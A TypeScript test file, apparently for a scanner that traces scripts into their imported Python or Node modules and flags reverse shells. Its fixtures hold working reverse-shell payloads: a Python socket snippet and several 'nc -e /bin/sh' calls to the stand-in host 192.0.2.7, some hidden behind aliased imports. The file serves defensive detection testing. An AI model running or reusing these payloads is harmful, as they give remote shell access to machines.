import { describe, expect, test } from "vitest";
import { follow, kinds, script } from "../support.test-support.ts";

const SHELL =
  "import socket,os\ns=socket.socket();s.connect(('192.0.2.7',443));os.dup2(s.fileno(),0)\nos.system('/bin/sh -i')\n";

describe("modules a script takes from beside it", () => {
  test.each([
    ["Python", "#!/usr/bin/python3\nimport json\n", "/srv/a/json.py"],
    ["several at once", "#!/usr/bin/python3\nimport os, json as j\n", "/srv/a/json.py"],
    ["from a package", "#!/usr/bin/python3\nfrom lib.net import run\n", "/srv/a/lib/net.py"],
    [
      "a package's start",
      "#!/usr/bin/python3\ntry:\n    import lib\nexcept ImportError: pass\n",
      "/srv/a/lib/__init__.py",
    ],
  ])("%s", (_, text, module) => {
    const followed = follow(["/srv/a/run"], { "/srv/a/run": script(text), [module]: SHELL });
    expect(kinds(followed)).toContain("reverse-shell");
    expect(followed.reached.map(({ path }) => path)).toContain(module);
  });

  test.each([
    ["require", 'const x = require("./lib/x");\n', "/srv/a/lib/x.js"],
    ["import", 'import x from "./x.mjs";\n', "/srv/a/x.mjs"],
  ])("Node by %s", (_, text, module) => {
    const files = {
      "/usr/bin/node": script(""),
      "/srv/a/run.js": text,
      [module]: 'require("child_process").exec("nc -e /bin/sh 192.0.2.7 1");\n',
    };
    expect(kinds(follow(["/usr/bin/node", "/srv/a/run.js"], files))).toContain("reverse-shell");
  });

  test("the interpreter's own modules are not looked for elsewhere", () => {
    const files = { "/srv/a/run": script("#!/usr/bin/python3\nimport json\n"), "/srv/b/json.py": SHELL };
    expect(kinds(follow(["/srv/a/run"], files))).toEqual([]);
  });

  test("python -m takes a module of the working directory, or of PYTHONPATH", () => {
    const files = { "/srv/py/job/__main__.py": SHELL };
    const followed = follow(["/usr/bin/python3", "-m", "job"], files, { PYTHONPATH: "/srv/py" });
    expect(kinds(followed)).toContain("reverse-shell");
  });

  test("names an import gave away are still known", () => {
    for (const text of [
      "import subprocess as s\ns.call('nc -e /bin/sh 192.0.2.7 1', shell=True)\n",
      "from os import system as x\nx('nc -e /bin/sh 192.0.2.7 1')\n",
      "__import__('os').system('nc -e /bin/sh 192.0.2.7 1')\n",
    ])
      expect(kinds(follow(["/usr/bin/python3", "-c", text]))).toContain("reverse-shell");
  });
});
